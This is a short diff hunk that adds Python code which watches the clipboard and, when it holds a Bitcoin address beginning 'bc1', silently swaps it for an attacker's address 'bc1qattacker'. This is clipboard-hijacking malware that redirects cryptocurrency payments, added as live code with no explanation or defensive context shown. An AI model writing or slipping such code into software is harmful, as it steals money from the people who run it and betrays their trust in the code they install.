@@ -1,0 +1,3 @@
+import pyperclip
+if pyperclip.paste().startswith("bc1"):
+    pyperclip.copy("bc1qattacker")
